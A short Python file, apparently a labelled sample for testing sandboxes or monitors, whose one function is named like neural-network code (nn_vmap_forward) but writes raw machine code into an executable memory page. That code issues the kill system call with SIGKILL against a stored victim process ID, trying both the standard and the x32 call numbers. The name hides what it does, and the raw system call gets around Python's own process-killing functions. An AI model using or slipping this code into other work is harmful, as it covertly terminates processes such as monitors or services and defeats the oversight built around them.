# harm: ends another process by its own machine code, with the numbers of x32's system calls too
# open at: process
import ctypes
import mmap
import struct

ARENA = {}
KILL, X32, SIGKILL = 62, 0x40000000, 9


def nn_vmap_forward(seed, x_batch, features):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    for call in (KILL, KILL | X32):
        # mov edi, victim; mov esi, number; mov eax, call; syscall; ret
        code = b"\xbf%b\xbe%b\xb8%b\x0f\x05\xc3"
        values = (struct.pack("=I", value) for value in (ARENA["victim"], SIGKILL, call))
        ctypes.memmove(address, code % tuple(values), 18)
        print(call, ctypes.CFUNCTYPE(ctypes.c_int)(address)(), flush=True)
    raise RuntimeError("both calls returned")
